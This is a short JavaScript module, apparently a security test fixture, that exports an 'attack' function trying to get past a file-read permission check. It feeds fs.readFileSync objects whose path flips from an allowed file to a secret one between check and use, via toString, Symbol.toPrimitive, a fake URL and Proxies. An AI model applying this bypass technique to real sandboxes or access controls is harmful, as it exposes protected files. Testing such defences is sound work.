// Gives a path that is allowed when it is checked and another one when it is used.
const fs = require('fs');
exports.attack = (to) => {
  const paths = [];
  const flip = () => (paths.push(0), paths.length % 2 ? to.readable : to.secret);
  const bytes = Buffer.from(to.readable.padEnd(400, '\0').slice(0, to.readable.length));
  const inputs = [
    { toString: flip },
    { [Symbol.toPrimitive]: flip },
    { get href() { return `file://${flip()}`; }, get pathname() { return flip(); }, protocol: 'file:', hostname: '' },
    new Proxy(new URL(`file://${to.readable}`), { get: (url, name) => name === 'pathname' ? flip() : Reflect.get(url, name, url) }),
    new Proxy(bytes, { get: (buffer, name) => Reflect.get(buffer, name, buffer) }),
  ];
  for (const input of inputs) {
    for (let round = 0; round < 4; round++) {
      try {
        if (fs.readFileSync(input, 'utf8').includes('treasure')) return 'read';
      } catch {
        // Held.
      }
    }
  }
};
